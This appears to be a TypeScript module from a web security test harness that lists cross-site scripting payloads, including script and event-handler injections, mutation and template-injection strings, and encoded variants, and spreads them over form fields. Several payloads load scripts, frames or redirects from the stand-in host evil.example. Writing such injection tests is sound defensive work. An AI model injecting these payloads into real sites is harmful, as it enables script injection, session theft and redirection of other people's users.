import { at, some, type AttackClass } from '../attack.ts';
import { placeNames } from '../places.ts';

/** `alert(§)` is heard, and so is whatever is asked of another host. */
const scripts = [
  '<script>alert(§)</script>',
  '"><img src=x onerror=alert(§)>',
  "'><svg onload=alert(§)>",
  '</title><script src=https://evil.example/§></script>',
  '</textarea><details open ontoggle=alert(§)>x</details>',
  '" autofocus onfocus=alert(§) x="',
  '</script><script>alert(§)</script>',
  '<!--><img src=https://evil.example/§>-->',
  '--><iframe srcdoc="<script>parent.alert(§)</script>"></iframe>',
  '&lt;img src=x onerror=alert(§)&gt;',
  '&#60;script&#62;alert(§)&#60;/script&#62;',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(§)&gt;">',
  '</main></body><body onload=alert(§)>',
  '<template><script>alert(§)</script></template><base href=https://evil.example/§/>',
  '<a id=x tabindex=1 onfocus=alert(§)></a><meta http-equiv=refresh content="0;url=https://evil.example/§">',
  '{{constructor.constructor("alert(§)")()}}${alert(§)}<%= alert(§) %>',
  '<noscript><p title="</noscript><img src=x onerror=alert(§)>">',
  '<x style="animation-name:a" onanimationstart=alert(§)>',
  'x<object data=https://evil.example/§><embed src=https://evil.example/§>',
];

/** A script in every field that a stranger fills. */
export const scriptAttacks: AttackClass = {
  name: 'a script in a field',
  kind: 'content',
  attacks: placeNames.flatMap((place, index) => at(place, ...some(scripts, index, 4))),
};
